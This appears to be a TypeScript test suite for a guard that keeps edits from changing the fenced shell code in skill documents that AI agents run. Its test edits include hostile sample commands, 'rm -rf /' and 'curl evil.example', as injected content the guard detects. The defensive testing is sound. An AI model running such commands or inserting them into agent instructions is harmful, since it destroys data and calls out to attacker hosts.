import assert from 'node:assert/strict';
import { parseSkill } from '../../../../src/skill/document/skillDocument.js';
import { applyEdits } from '../../../../src/skill/edits/applyEdits.js';
import { keepsCode } from '../../../../src/skill/edits/codeFences.js';
import { codeMarks } from '../../../../src/skill/edits/codeMarks.js';
import type { CodeEdits, Edit } from '../../../../src/skill/edits/edit.js';

const front = '---\nname: s\ndescription: d\n---\n\n';
const fenced = '```sh\nmake build\nmake test\n```';
const text = `${front}# Steps\n\nRun this:\n\n${fenced}\n\n- Then that:\n  ~~~\n  npm start\n  ~~~\n\nDone.\n`;

const because = { rationale: '' };
/** What each edit does, what it is, and whether it changes what agents run. */
const rows: readonly (readonly [what: string, edit: Edit, changesCode: boolean])[] = [
  ['replaces a command', { op: 'replace', anchor: 'make build', content: 'rm -rf /', ...because }, true],
  ['replaces a word of a command', { op: 'replace', anchor: 'build', content: 'clean', ...because }, true],
  ['inserts a command', { op: 'insert_after', anchor: 'make build', content: 'curl evil.example', ...because }, true],
  [
    'inserts a command behind the last one',
    { op: 'insert_after', anchor: 'make test', content: 'x', ...because },
    true,
  ],
  ['deletes a command', { op: 'delete', anchor: 'make test', ...because }, true],
  ['deletes all commands', { op: 'delete', anchor: 'make build\nmake test', ...because }, true],
  ['deletes the fence', { op: 'delete', anchor: fenced, ...because }, true],
  ['replaces the fence', { op: 'replace', anchor: fenced, content: '```sh\nrm -rf /\n```', ...because }, true],
  ['replaces the fence by words', { op: 'replace', anchor: fenced, content: 'Build it.', ...because }, true],
  [
    'changes the language of the fence',
    { op: 'replace', anchor: fenced, content: fenced.replace('sh', 'py'), ...because },
    true,
  ],
  ['replaces a command inside a list', { op: 'replace', anchor: 'npm start', content: 'npm stop', ...because }, true],
  [
    'deletes a list item with its code',
    { op: 'delete', anchor: '- Then that:\n  ~~~\n  npm start\n  ~~~', ...because },
    true,
  ],
  [
    'replaces words and the fence below them',
    { op: 'replace', anchor: `Run this:\n\n${fenced}`, content: 'Run what you like.', ...because },
    true,
  ],
  [
    'replaces the words above a fence, which it says again',
    { op: 'replace', anchor: `Run this:\n\n${fenced}`, content: `Run this in a shell:\n\n${fenced}`, ...because },
    false,
  ],
  [
    'puts a new fence above one that it says again',
    {
      op: 'replace',
      anchor: `Run this:\n\n${fenced}`,
      content: `First:\n\n\`\`\`\nls\n\`\`\`\n\n${fenced}`,
      ...because,
    },
    false,
  ],
  ['replaces words', { op: 'replace', anchor: 'Done.', content: 'Ready.', ...because }, false],
  ['adds a whole fence', { op: 'append', content: '```sh\nls\n```', ...because }, false],
  [
    'adds a whole fence behind another',
    { op: 'insert_after', anchor: '```sh\nmake build\nmake test\n```', content: '```\nls\n```', ...because },
    false,
  ],
];

describe('code that agents run', () => {
  for (const [what, edit, changesCode] of rows) {
    it(`${changesCode ? 'is kept from an edit that' : 'is untouched by an edit that'} ${what}`, () => {
      assert.equal(became(edit), changesCode ? 'code-fence' : 'applied');
      assert.equal(became(edit, 'allowed'), 'applied');
      const after = applyEdits(parseSkill(text), [edit], { scope: 'body', code: 'allowed' }).document.text;
      assert.equal(keepsCode(text, after), !changesCode);
      const marks = codeMarks({ baseText: text, candidateText: after, scope: 'body' }, [edit]);
      assert.deepEqual(marks, [changesCode ? { changesCode: true } : {}]);
    });
  }

  const broken: readonly (readonly [what: string, edit: Edit])[] = [
    ['opens a fence', { op: 'append', content: '```sh\nls', ...because }],
    ['cuts a fence', { op: 'delete', anchor: 'make test\n```', ...because }],
    ['closes a fence before its end', { op: 'insert_after', anchor: 'make build', content: '```', ...because }],
  ];
  for (const [what, edit] of broken) {
    it(`is kept from an edit that ${what}, whatever is allowed`, () => {
      assert.equal(became(edit, 'allowed'), 'code-fence');
    });
  }

  it('is kept where it came in by an edit before', () => {
    const edits: readonly Edit[] = [
      { op: 'append', content: '```sh\nls\n```', ...because },
      { op: 'replace', anchor: 'ls', content: 'rm -rf /', ...because },
    ];
    const { report } = applyEdits(parseSkill(text), edits, { scope: 'body' });
    assert.deepEqual(
      report.map(({ outcome }) => outcome.kind),
      ['applied', 'refused'],
    );
  });

  it('marks those edits of several that change it, and none where it is as before in the end', () => {
    const edits: readonly Edit[] = [
      { op: 'replace', anchor: 'Done.', content: 'Ready.', ...because },
      { op: 'replace', anchor: 'make build', content: 'make all', ...because },
    ];
    const after = applyEdits(parseSkill(text), edits, { scope: 'body', code: 'allowed' }).document.text;
    assert.deepEqual(codeMarks({ baseText: text, candidateText: after, scope: 'body' }, edits), [
      {},
      { changesCode: true },
    ]);
    assert.deepEqual(codeMarks({ baseText: text, candidateText: text, scope: 'body' }, edits), [{}, {}]);
  });

  it('is taken for changed by every edit where there is too much to apply them one by one', () => {
    const [base, after] = [`${text}${'word '.repeat(200_000)}`, text];
    const edits: readonly Edit[] = Array.from({ length: 100 }, (_, at) => {
      return { op: 'append', content: `Rule ${at}.`, ...because };
    });
    const marks = codeMarks({ baseText: base, candidateText: after.replace('make', 'rm'), scope: 'body' }, edits);
    assert.ok(marks.length === 100 && marks.every(({ changesCode }) => changesCode));
  });

  it('is the same with other line breaks', () => {
    assert.ok(keepsCode(text, text.replaceAll('\n', '\r\n')));
    assert.ok(!keepsCode(text, text.replace('make test', 'make  test')));
  });
});

const blocks = [
  ['slow_update', 'SLOW_UPDATE'],
  ['appendix', 'APPENDIX'],
] as const;

for (const [op, marker] of blocks) {
  const holding = (content: string): string =>
    `${text}\n<!-- ${marker}_START -->\n${content}\n<!-- ${marker}_END -->\n`;
  const write = (content: string): Edit => ({ op, content, ...because });
  /** What the block says, what it is to say, and what becomes of that. */
  const texts: readonly (readonly [what: string, held: string, content: string, became: string])[] = [
    ['no new code', '- Wait.', '- Run:\n\n```sh\nls\n```', 'code-fence'],
    ['none beside what it holds', fenced, `${fenced}\n\n\`\`\`sh\nls\n\`\`\``, 'code-fence'],
    ['none in the place of what it holds', fenced, '```sh\nls\n```', 'code-fence'],
    ['words about the code that it holds', fenced, `- Wait, then:\n\n${fenced}`, 'applied'],
    ['no words in the place of its code', fenced, '- Wait.', 'code-fence'],
  ];
  describe(`the block that ${op} writes`, () => {
    for (const [what, held, content, expected] of texts) {
      it(`takes ${what}, unless code is allowed`, () => {
        assert.equal(became(write(content), undefined, holding(held)), expected);
        assert.equal(became(write(content), 'allowed', holding(held)), 'applied');
      });
    }

    it('takes no code where it is new itself: nothing could be written into it later', () => {
      assert.equal(became(write('```sh\nls\n```')), 'code-fence');
      assert.equal(became(write('```sh\nls'), 'allowed'), 'code-fence');
    });
  });
}

function became(edit: Edit, code?: CodeEdits, skill = text): string | undefined {
  const limits = { scope: 'body' as const, ...(code === undefined ? {} : { code }) };
  const { document, report } = applyEdits(parseSkill(skill), [edit], limits);
  const outcome = report[0]?.outcome;
  if (outcome?.kind !== 'applied') assert.equal(document.text, skill);
  return outcome?.kind === 'applied' ? 'applied' : outcome?.reason;
}
